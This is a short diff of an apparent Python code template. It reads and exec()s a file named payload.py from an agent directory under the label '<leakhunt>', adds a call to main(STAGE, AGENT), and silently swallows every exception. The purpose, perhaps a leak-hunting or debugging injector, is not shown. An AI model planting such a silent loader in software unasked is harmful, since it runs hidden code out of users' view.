@@ -40,6 +40,7 @@ try:
     with __import__("_io").open(AGENT + "/payload.py", "rb") as _file:
         _code = compile(_file.read(), "<leakhunt>", "exec")
     exec(_code)
+    main(STAGE, AGENT)
 except BaseException:
     pass
 """
